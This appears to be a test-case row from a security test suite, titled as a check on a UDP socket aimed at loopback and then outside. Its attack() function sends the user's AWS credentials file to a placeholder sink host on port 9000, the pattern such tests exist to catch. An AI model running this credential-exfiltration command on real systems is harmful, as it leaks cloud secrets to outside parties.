# SPDX-License-Identifier: Apache-2.0
TITLE="UDP socket aimed at loopback first, then outside"
ROW="N09"
attack() { "$PROVOKE/datagram" reaim "$HOME/.aws/credentials" "$SINK4" 9000; }
